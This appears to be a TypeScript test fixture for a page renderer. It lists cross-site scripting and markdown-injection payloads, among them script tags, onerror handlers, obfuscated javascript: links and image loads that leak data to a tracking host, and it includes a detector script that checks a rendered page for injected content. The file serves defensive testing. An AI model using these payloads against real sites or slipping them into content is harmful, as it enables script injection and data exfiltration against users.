/**
 * Texts that try to run as script, to load something, or to lead elsewhere, wherever a page takes a text
 * for more than a text. `place` is a host that counts who asks it for anything.
 */
export const injections = (place: string): readonly string[] => [
  `<script>window.hit = 1</script>`,
  `<script src="${place}/a.js"></script>`,
  `<img src="${place}/a.png" onerror="window.hit = 1">`,
  `<img src=x onerror=window.hit=1>`,
  `<svg onload="window.hit = 1"><image href="${place}/b.png" /></svg>`,
  `<iframe src="${place}/frame" srcdoc="<script>parent.hit = 1</script>"></iframe>`,
  `<object data="${place}/o"></object><embed src="${place}/e">`,
  `<link rel="stylesheet" href="${place}/s.css"><style>@import url(${place}/i.css);</style>`,
  `<base href="${place}/"><meta http-equiv="refresh" content="0;url=${place}/m">`,
  `<form action="${place}/f"><button autofocus onfocus="window.hit = 1">go</button></form>`,
  `<details open ontoggle="window.hit = 1">x</details>`,
  `<video poster="${place}/p.png" src="${place}/v.mp4" autoplay onloadstart="window.hit = 1"></video>`,
  `<a href="javascript:window.hit=1">x</a>`,
  `<math><mi xlink:href="javascript:window.hit=1">x</mi></math>`,
  `"><img src=x onerror=window.hit=1>`,
  `' onmouseover='window.hit=1`,
  `</textarea><script>window.hit = 1</script>`,
  `[run](javascript:window.hit=1)`,
  `[run](JaVaScRiPt:window.hit=1)`,
  `[run](javascript&colon;window.hit=1)`,
  `[run](java\tscript:window.hit=1)`,
  `[run](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=)`,
  `[run](vbscript:window.hit=1)`,
  `[run](blob:${place}/1)`,
  `[run][r]\n\n[r]: javascript:window.hit=1`,
  `<javascript:window.hit=1>`,
  `![secret](${place}/leak.png?secret=1)`,
  `![secret][r]\n\n[r]: ${place}/leak2.png`,
  `[![secret](${place}/leak3.png)](${place}/go)`,
  `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)`,
  `![x](//${new URL(place).host}/leak4.png)`,
  `[bank.example](${place}/login)`,
  '```html\n<script>window.hit = 1</script>\n```',
  '`<img src=x onerror=window.hit=1>`',
  `| a |\n| --- |\n| <img src=x onerror=window.hit=1> ![x](${place}/cell.png) |`,
  `text[^1]\n\n[^1]: <img src=x onerror=window.hit=1> ![x](${place}/note.png)`,
  `{{constructor.constructor('window.hit=1')()}}`,
  '${window.hit=1}',
]

/** What of a page could come from such a text: empty when a text is only a text. */
export const findInjected = `
  const own = (element) => element.closest('head') !== null
  const forbidden = [...document.querySelectorAll(
    'script, iframe, object, embed, link, style, base, meta, video, audio, math, [srcdoc], form[action]')]
    .filter((element) => !own(element)).map((element) => element.outerHTML)
  const handlers = [...document.querySelectorAll('*')]
    .filter((element) => element.getAttributeNames().some((name) => name.startsWith('on')))
    .map((element) => element.outerHTML)
  const links = [...document.links].filter((link) =>
    !link.getAttribute('href').startsWith('#/') &&
    (!['http:', 'https:', 'mailto:'].includes(link.protocol) ||
      link.rel !== 'noopener noreferrer' || link.target !== '_blank' ||
      !link.innerText.includes('(' + (link.host || link.pathname) + ')')))
    .map((link) => link.outerHTML)
  const pictures = [...document.images]
    .filter(({ src }) => !/^data:image\\/(png|jpeg|gif|webp|avif)/.test(src) && !src.startsWith('blob:'))
    .map((image) => image.outerHTML)
  return [...forbidden, ...handlers, ...links, ...pictures,
    ...(window.hit === undefined ? [] : ['a script ran'])]`
